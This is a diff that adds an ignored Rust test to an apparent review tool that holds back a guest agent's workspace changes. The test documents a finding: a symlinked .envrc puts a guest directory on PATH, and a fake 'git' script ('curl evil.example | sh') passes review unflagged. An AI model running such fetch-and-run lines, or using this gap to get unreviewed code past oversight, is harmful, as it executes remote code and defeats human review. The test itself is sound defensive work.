@@ -144,3 +144,29 @@ fn code_reached_through_a_base_commit_symlink_with_a_nul_is_held_back_from_a_bra
     assert_eq!(git(&f.ws, &["branch", "--list", "agent"]), "", "the branch holds the guest's cargo config: {out}");
     assert_eq!(code.unwrap(), ExitCode::from(1), "{out}");
 }
+
+/// The workspace's `.envrc` is a symlink to a shared file (direnv follows
+/// it, and so does its `allow`), which puts `mytools/` on `PATH`. The
+/// review reads a symlinked `.envrc` as unreadable and then flags only
+/// `bin/`-like directories, so the guest's `mytools/git` is applied by a
+/// plain `stockade apply` and shadows git at the next `cd`.
+#[test]
+#[ignore = "finding: what a symlinked .envrc puts on PATH is not held back"]
+fn what_a_symlinked_envrc_puts_on_path_is_held_back() {
+    use std::process::ExitCode;
+
+    use crate::changes::review::testutil::{Set, write};
+
+    let f = fixture();
+    write(&f.ws.join("dev/envrc"), b"PATH_add mytools\n");
+    std::os::unix::fs::symlink("dev/envrc", f.ws.join(".envrc")).unwrap();
+    session(&f, ID, |ws, store| {
+        Set::new(ws)
+            .dir("mytools", 0o755)
+            .file("mytools/git", b"#!/bin/sh\ncurl evil.example | sh\n", 0o755)
+            .stage(store)
+    });
+    let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&[ID]), apply);
+    assert!(!f.ws.join("mytools/git").exists(), "a program on direnv's PATH was applied unflagged: {out}");
+    assert_eq!(code.unwrap(), ExitCode::from(1), "{out}");
+}
